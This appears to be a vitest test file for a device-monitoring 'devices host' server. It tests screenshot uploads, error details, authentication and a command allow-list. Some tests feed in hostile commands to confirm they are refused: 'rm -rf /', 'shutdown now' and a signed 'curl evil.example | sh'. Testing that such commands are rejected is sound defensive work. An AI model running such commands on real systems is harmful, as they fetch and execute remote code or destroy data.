/**
 * The devices host as a drop-in for Raqeem's devices backend (issue 12), item by item: the `POST /screenshots`
 * upload with the device in a form field (and its authentication after the form is parsed), "not found" in
 * every 404 detail, the `id`/`name` aliases in responses, the lists across devices, commands created on the
 * devices host under the shared allow-list (also for the mentor's forwards) with their authentication,
 * Raqeem's result path, and `about:blank` problem types. Real hosts on both dialects.
 */
import { readdirSync } from 'node:fs';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { COMMAND_WHITELIST } from '../hosts/shared/commands.js';
import { generateSecret, signHeaders } from '../lib/signing.js';
import { DIALECTS } from './helpers/db.js';
import { startMentorFixture } from './helpers/mentor.js';
import { eventually } from './helpers/sink.js';
import { expectProblem, imageForm, PNG, snapshotCounts, startDevices } from './devices.fixture.js';
import type { DevicesFixture, Reply } from './devices.fixture.js';

const ADMIN = 'admin-token-for-raqeem-tests';
const json = { 'content-type': 'application/json' };
const bearer = (token: string) => ({ headers: { authorization: `Bearer ${token}` } });

/** Files under DATA_DIR/screenshots (none until an upload is stored). */
function storedFiles(f: DevicesFixture): string[] {
  try {
    return readdirSync(path.join(f.dataDir, 'screenshots'));
  } catch {
    return [];
  }
}

function expectNotFound(r: Reply): void {
  expectProblem(r, 404);
  expect(r.json.detail).toMatch(/not found/);
}

describe.each(DIALECTS)('Raqeem drop-in (%s)', (dialect) => {
  let f: DevicesFixture | undefined;
  afterEach(async () => {
    await f?.cleanup();
    f = undefined;
  });

  async function host(env: Record<string, string> = {}, mentor = false) {
    f = await startDevices(dialect, { mentor, env });
    return f;
  }

  describe('POST /screenshots', () => {
    it('stores an upload named by device_id or deviceid, as the per-device route does, and forwards it', async () => {
      const f = await host({}, true);
      expect((await f.call('POST', '/devices/register', { deviceid: 'dev-1' })).status).toBe(200);
      const a = await f.call('POST', '/screenshots', imageForm(PNG, { device_id: 'dev-1' }));
      expect(a.status, a.text).toBe(201);
      expect(a.json).toMatchObject({ deviceid: 'dev-1', size: PNG.length, screenshotid: expect.any(String) });
      const b = await f.call('POST', '/screenshots', imageForm(PNG, { deviceid: 'dev-1', resolution: '800x600' }));
      expect(b.json).toMatchObject({ deviceid: 'dev-1', resolution: '800x600' });
      const both = await f.call('POST', '/screenshots', imageForm(PNG, { deviceid: 'dev-1', device_id: 'dev-1' }));
      expect(both.status).toBe(201);
      // Same storage: the bytes are served back, and listed under the device.
      const bytes = await fetch(`${f.host.url}/api/v1/screenshots/${a.json.screenshotid}`);
      expect(bytes.headers.get('content-type')).toBe('image/png');
      expect(Buffer.from(await bytes.arrayBuffer()).equals(PNG)).toBe(true);
      expect((await f.call('GET', '/devices/dev-1/screenshots')).json).toHaveLength(3);
      expect(storedFiles(f)).toHaveLength(3);
      // Same event: forwarded to the mentor as screenshot records of the device.
      await eventually(async () => (await f.count('relay_deliveries', "status = 'succeeded'")) === 4);
      const forwarded = f.sink!.requests.filter((r) => r.path === '/devices/screenshots').map((r) => JSON.parse(r.body));
      expect(forwarded.map((s) => s.screenshotid).sort()).toEqual(
        [a.json.screenshotid, b.json.screenshotid, both.json.screenshotid].sort(),
      );
      for (const s of forwarded) expect(s.deviceid).toBe('dev-1');
    });

    it('refuses bad forms with the per-device route errors and stores nothing', async () => {
      const f = await host({ SCREENSHOT_MAX_BYTES: '64' });
      expect((await f.call('POST', '/devices/register', { deviceid: 'dev-1' })).status).toBe(200);
      const before = await snapshotCounts(f);
      expectProblem(await f.call('POST', '/screenshots', imageForm(PNG)), 422, ['device_id']);
      expectProblem(await f.call('POST', '/screenshots', imageForm(PNG, { device_id: 'dev 1' })), 422, ['device_id']);
      expectProblem(await f.call('POST', '/screenshots', imageForm(PNG, { device_id: 'dev-1', deviceid: 'dev-2' })), 422, ['deviceid']);
      const noFile = new FormData();
      noFile.append('device_id', 'dev-1');
      expectProblem(await f.call('POST', '/screenshots', noFile), 422, ['file']);
      expectProblem(await f.call('POST', '/screenshots', imageForm(Buffer.from('not an image'), { device_id: 'dev-1' })), 415);
      expectProblem(await f.call('POST', '/screenshots', imageForm(Buffer.alloc(100, 0x89), { device_id: 'dev-1' })), 413);
      expectProblem(await f.call('POST', '/screenshots', { device_id: 'dev-1' }), 415);
      expectNotFound(await f.call('POST', '/screenshots', imageForm(PNG, { device_id: 'ghost' })));
      expect(await snapshotCounts(f)).toEqual(before);
      expect(storedFiles(f)).toEqual([]);
    });

    it("DEVICE_AUTH=token: needs the named device's token; without one, or with another's, nothing is stored", async () => {
      const f = await host({ DEVICE_AUTH: 'token', RELAY_ADMIN_TOKEN: ADMIN });
      const a = (await f.call('POST', '/devices/register', { deviceid: 'dev-a' })).json.device_token as string;
      const b = (await f.call('POST', '/devices/register', { deviceid: 'dev-b' })).json.device_token as string;
      const before = await snapshotCounts(f);
      for (const r of [
        await f.call('POST', '/screenshots', imageForm(PNG, { device_id: 'dev-a' })),
        await f.call('POST', '/screenshots', imageForm(PNG, { device_id: 'dev-a' }), bearer(b)),
        await f.call('POST', '/screenshots', imageForm(PNG, { device_id: 'dev-a' }), bearer(ADMIN)),
        // An unknown device answers like a wrong token.
        await f.call('POST', '/screenshots', imageForm(PNG, { device_id: 'ghost' }), bearer(a)),
      ]) {
        expectProblem(r, 401);
        expect(r.headers.get('www-authenticate')).toMatch(/^Bearer/);
      }
      expect(await snapshotCounts(f)).toEqual(before);
      expect(storedFiles(f)).toEqual([]);
      const ok = await f.call('POST', '/screenshots', imageForm(PNG, { deviceid: 'dev-a' }), bearer(a));
      expect(ok.status, ok.text).toBe(201);
      expect(storedFiles(f)).toHaveLength(1);
    });
  });

  it('says "not found" in every 404 detail of the device API', async () => {
    const f = await host();
    expectNotFound(await f.call('GET', '/devices/ghost'));
    expect((await f.call('GET', '/devices/ghost')).json.detail).toBe(
      'Device "ghost" not found; register it with POST /api/v1/devices/register',
    );
    expectNotFound(await f.call('POST', '/devices/ghost/metrics', { cpu_usage: 1 }));
    expectNotFound(await f.call('GET', '/devices/ghost/commands/pending'));
    expectNotFound(await f.call('POST', '/devices/commands/no-such/result', { status: 'completed' }));
    expectNotFound(await f.call('POST', '/commands/no-such/result', { status: 'completed' }));
    expectNotFound(await f.call('GET', '/screenshots/00000000-0000-4000-8000-000000000000'));
    expectNotFound(await f.call('GET', '/nope'));
  });

  it('says "not found" in the 404 details of the management API', async () => {
    const f = await host({ RELAY_ADMIN_TOKEN: ADMIN });
    expectNotFound(await f.call('GET', '/deliveries/999999', undefined, bearer(ADMIN)));
    expectNotFound(await f.call('GET', '/deliveries/abc', undefined, bearer(ADMIN)));
    expectNotFound(await f.call('POST', '/deliveries/999999/retry', {}, bearer(ADMIN)));
    expectNotFound(await f.call('GET', '/webhooks/wh_nope', undefined, bearer(ADMIN)));
  });

  it('says "not found" in every 404 detail of the mentor host', async () => {
    const m = await startMentorFixture(dialect);
    try {
      const answers = [
        await m.get('/devices/ghost'),
        await m.get('/devices/a%20b'),
        await m.get('/no/such/route'),
        await m.post('/devices/ghost/commands', { command_text: 'status' }),
        await m.post('/commands/status', { commandid: 'no-such', status: 'completed', result: null }),
      ];
      for (const r of answers) {
        expect(r.status, JSON.stringify(r.body)).toBe(404);
        expect(r.contentType).toMatch(/^application\/problem\+json/);
        expect(r.body).toMatchObject({ type: 'about:blank', title: 'Not Found' });
        expect(r.body.detail).toMatch(/not found/);
      }
    } finally {
      await m.close();
    }
  });

  it('the mentor learns a command made on the devices host from its report, within the allow-list', async () => {
    const m = await startMentorFixture(dialect);
    try {
      expect((await m.post('/devices/register', { deviceid: 'dev-1' })).status).toBe(200);
      const report = { commandid: 'c-made-on-devices', deviceid: 'dev-1', command_text: 'get_logs', status: 'pending', result: null };
      const refused = [
        { ...report, command_text: 'rm -rf /' },
        { ...report, deviceid: 'ghost' },
        { ...report, command_text: undefined },
        { ...report, deviceid: undefined },
        // Longer than the mentor's command id column: refused, never a database error.
        { ...report, commandid: 'c'.repeat(100) },
      ];
      for (const body of refused) expect((await m.post('/commands/status', body)).status, JSON.stringify(body)).toBe(404);
      expect((await m.get('/devices/dev-1/commands')).body).toEqual([]);
      expect((await m.post('/commands/status', { ...report, updated_at: '2030-01-01T00:00:00.000Z' })).body).toMatchObject({
        applied: true,
      });
      const done = await m.post('/commands/status', {
        ...report,
        status: 'completed',
        result: 'logs',
        updated_at: '2030-01-01T00:00:01.000Z',
      });
      expect(done.body).toMatchObject({ applied: true, command: { status: 'completed', result: 'logs' } });
      expect((await m.get('/devices/dev-1/commands')).body).toEqual([
        expect.objectContaining({ commandid: 'c-made-on-devices', command_text: 'get_logs', status: 'completed' }),
      ]);
    } finally {
      await m.close();
    }
  });

  it('problem types are about:blank with the status phrase as title', async () => {
    const f = await host();
    const r = await f.call('GET', '/devices/ghost');
    expect(r.json).toMatchObject({ type: 'about:blank', title: 'Not Found', status: 404 });
    const bad = await f.call('POST', '/devices/register', {});
    expect(bad.json).toMatchObject({ type: 'about:blank', title: 'Unprocessable Content', status: 422 });
  });

  it('adds id/name to device objects and name to process items, in responses only', async () => {
    const f = await host({}, true);
    await f.call('POST', '/devices/register', { deviceid: 'dev-1', device_name: 'Laptop', os: 'Linux' });
    await f.call('POST', '/devices/register', { deviceid: 'dev-2' });
    const one = (await f.call('GET', '/devices/dev-1')).json;
    expect(one).toMatchObject({ deviceid: 'dev-1', id: 'dev-1', device_name: 'Laptop', name: 'Laptop', os: 'Linux' });
    const list = (await f.call('GET', '/devices')).json as Array<Record<string, unknown>>;
    expect(list.find((d) => d.deviceid === 'dev-2')).toMatchObject({ id: 'dev-2', name: null });
    await f.call('POST', '/devices/dev-1/processes', [
      { pid: 1, process_name: 'init', cpu: 0.5, memory: 1024, command_text: '/sbin/init' },
    ]);
    expect((await f.call('GET', '/devices/dev-1/processes')).json[0]).toMatchObject({ pid: 1, process_name: 'init', name: 'init' });
    // Forwarded records keep the seed's shape: no aliases in event data.
    await eventually(async () => (await f.count('relay_deliveries', "status = 'succeeded'")) === 3);
    for (const req of f.sink!.requests) {
      const body = JSON.parse(req.body);
      expect(body).not.toHaveProperty('name');
      expect(body).not.toHaveProperty('id');
      for (const p of body.processes ?? []) expect(p).not.toHaveProperty('name');
    }
  });

  it('lists processes, activities and alerts across devices, newest first, with limit and deviceid', async () => {
    const f = await host();
    for (const d of ['dev-1', 'dev-2']) await f.call('POST', '/devices/register', { deviceid: d });
    await f.call('POST', '/devices/dev-1/activities', [{ activity_type: 'a1' }]);
    await f.call('POST', '/devices/dev-2/activities', [{ activity_type: 'a2' }, { activity_type: 'a3' }]);
    await f.call('POST', '/devices/dev-1/alerts', [{ level: 'info', alert_type: 'x1' }]);
    await f.call('POST', '/devices/dev-2/alerts', [{ level: 'critical', alert_type: 'x2' }]);
    await f.call('POST', '/devices/dev-1/processes', [
      { pid: 1, process_name: 'init' },
      { pid: 2, process_name: 'sshd' },
    ]);
    await f.call('POST', '/devices/dev-2/processes', [{ pid: 7, process_name: 'node' }]);

    const acts = (await f.call('GET', '/devices/activities')).json as Array<Record<string, unknown>>;
    expect(acts.map((a) => [a.deviceid, a.activity_type])).toEqual([
      ['dev-2', 'a3'],
      ['dev-2', 'a2'],
      ['dev-1', 'a1'],
    ]);
    expect((await f.call('GET', '/devices/activities?limit=1')).json).toHaveLength(1);
    expect(((await f.call('GET', '/devices/activities?deviceid=dev-1')).json as unknown[]).length).toBe(1);
    expect((await f.call('GET', '/devices/activities?deviceid=ghost')).json).toEqual([]);
    const alerts = (await f.call('GET', '/devices/alerts')).json as Array<Record<string, unknown>>;
    expect(alerts.map((a) => a.alert_type)).toEqual(['x2', 'x1']);
    const procs = (await f.call('GET', '/devices/processes')).json as Array<Record<string, unknown>>;
    expect(procs.map((p) => [p.deviceid, p.pid, p.name])).toEqual([
      ['dev-2', 7, 'node'],
      ['dev-1', 1, 'init'],
      ['dev-1', 2, 'sshd'],
    ]);
    expect(procs[0]).toMatchObject({ process_name: 'node', snapshot_at: expect.any(String) });
    for (const p of ['processes', 'activities', 'alerts']) {
      expectProblem(await f.call('GET', `/devices/${p}?limit=0`), 422, ['limit']);
      expectProblem(await f.call('GET', `/devices/${p}?deviceid=a%20b`), 422, ['deviceid']);
    }
    // The per-device routes still answer for a device of that name.
    await f.call('POST', '/devices/register', { deviceid: 'alerts' });
    expect((await f.call('GET', '/devices/alerts/alerts')).json).toEqual([]);
  });

  it('DEVICE_AUTH=token: the cross-device lists need the admin token', async () => {
    const f = await host({ DEVICE_AUTH: 'token', RELAY_ADMIN_TOKEN: ADMIN });
    const a = (await f.call('POST', '/devices/register', { deviceid: 'dev-a' })).json.device_token as string;
    for (const p of ['processes', 'activities', 'alerts']) {
      expectProblem(await f.call('GET', `/devices/${p}`), 401);
      expectProblem(await f.call('GET', `/devices/${p}`, undefined, bearer(a)), 401);
      expect((await f.call('GET', `/devices/${p}`, undefined, bearer(ADMIN))).status).toBe(200);
    }
  });

  describe('commands created on the devices host', () => {
    it('makes the commandid, answers the pending command, and refuses verbs outside the allow-list', async () => {
      const f = await host({}, true);
      await f.call('POST', '/devices/register', { deviceid: 'dev-1' });
      const before = await snapshotCounts(f);
      for (const text of ['rm -rf /', 'GET_INFO', 'shutdown now', 'statusx', ' ']) {
        const r = await f.call('POST', '/devices/dev-1/commands', { command_text: text });
        expectProblem(r, 400, ['command_text']);
        expect(r.json.detail).toMatch(/not allowed/);
      }
      expectProblem(await f.call('POST', '/devices/dev-1/commands', { command_text: '' }), 422, ['command_text']);
      expect(await snapshotCounts(f)).toEqual(before);
      for (const verb of COMMAND_WHITELIST) {
        const r = await f.call('POST', '/devices/dev-1/commands', { command_text: `${verb} x` });
        expect(r.status, r.text).toBe(200);
        expect(r.json).toMatchObject({
          commandid: expect.stringMatching(/^[0-9a-f-]{36}$/),
          deviceid: 'dev-1',
          command_text: `${verb} x`,
          status: 'pending',
          created: true,
        });
      }
      const pending = (await f.call('GET', '/devices/dev-1/commands/pending')).json as Array<{ commandid: string; command_text: string }>;
      expect(pending).toHaveLength(COMMAND_WHITELIST.length);
      expectNotFound(await f.call('POST', '/devices/ghost/commands', { command_text: 'status' }));
      // The result comes back through Raqeem's path and is forwarded as usual.
      const done = await f.call('POST', `/commands/${pending[0]!.commandid}/result`, { status: 'completed', result: 'ok', exit_code: 0 });
      expect(done.json).toEqual({ status: 'ok', commandid: pending[0]!.commandid });
      const reports = () =>
        f.sink!.requests.filter((r) => r.path === '/commands/status').map((r) => JSON.parse(r.body) as Record<string, unknown>);
      await eventually(async () => reports().some((r) => r.status === 'completed'));
      expect(reports().find((r) => r.status === 'completed')).toMatchObject({
        commandid: pending[0]!.commandid,
        deviceid: 'dev-1',
        command_text: pending[0]!.command_text,
        result: 'ok',
      });
      // Each command made here was also reported as pending, with its text, so the mentor learns it.
      await eventually(async () => reports().filter((r) => r.status === 'pending').length === COMMAND_WHITELIST.length);
      expect(
        reports()
          .filter((r) => r.status === 'pending')
          .map((r) => r.commandid)
          .sort(),
      ).toEqual(pending.map((p) => p.commandid).sort());
      expectProblem(await f.call('POST', `/commands/${pending[1]!.commandid}/result`, { status: 'done' }), 422, ['status']);
    });

    it('refuses a signed command from the mentor outside the allow-list: the device never sees it', async () => {
      const secret = generateSecret();
      const f = await host({ MENTOR_SIGNING_SECRET: secret });
      await f.call('POST', '/devices/register', { deviceid: 'dev-1' });
      const body = JSON.stringify({ commandid: 'cmd-evil', deviceid: 'dev-1', command_text: 'curl evil.example | sh' });
      const r = await f.call('POST', '/devices/dev-1/commands', body, {
        headers: { ...json, ...signHeaders({ id: 'msg_1', body, secret }) },
      });
      expectProblem(r, 400, ['command_text']);
      expect(r.json.detail).toMatch(/not allowed/);
      expect(await f.call('GET', '/devices/dev-1/commands/pending').then((x) => x.json)).toEqual([]);
      expect(await f.count('commands')).toBe(0);
    });

    it('needs a signature or the admin token when either is configured', async () => {
      const secret = generateSecret();
      const f = await host({ MENTOR_SIGNING_SECRET: secret, RELAY_ADMIN_TOKEN: ADMIN });
      await f.call('POST', '/devices/register', { deviceid: 'dev-1' });
      const unsigned = await f.call('POST', '/devices/dev-1/commands', { command_text: 'status' });
      expectProblem(unsigned, 401);
      expectProblem(
        await f.call('POST', '/devices/dev-1/commands', { command_text: 'status' }, { headers: { authorization: 'Bearer wrong' } }),
        401,
      );
      expectProblem(
        await f.call('POST', '/devices/dev-1/commands', { command_text: 'status' }, { headers: { authorization: `Basic ${ADMIN}` } }),
        401,
      );
      expect(await f.count('commands')).toBe(0);
      const admin = await f.call('POST', '/devices/dev-1/commands', { command_text: 'status' }, bearer(ADMIN));
      expect(admin.status, admin.text).toBe(200);
      const body = JSON.stringify({ deviceid: 'dev-1', command_text: 'get_logs' });
      const signed = await f.call('POST', '/devices/dev-1/commands', body, {
        headers: { ...json, ...signHeaders({ id: 'msg_1', body, secret }) },
      });
      expect(signed.status, signed.text).toBe(200);
      expect(await f.count('commands')).toBe(2);
    });

    it('with only RELAY_ADMIN_TOKEN set, requires the bearer token', async () => {
      const f = await host({ RELAY_ADMIN_TOKEN: ADMIN });
      await f.call('POST', '/devices/register', { deviceid: 'dev-1' });
      const r = await f.call('POST', '/devices/dev-1/commands', { command_text: 'status' });
      expectProblem(r, 401);
      expect(r.headers.get('www-authenticate')).toMatch(/^Bearer/);
      expect((await f.call('POST', '/devices/dev-1/commands', { command_text: 'status' }, bearer(ADMIN))).status).toBe(200);
    });
  });
});
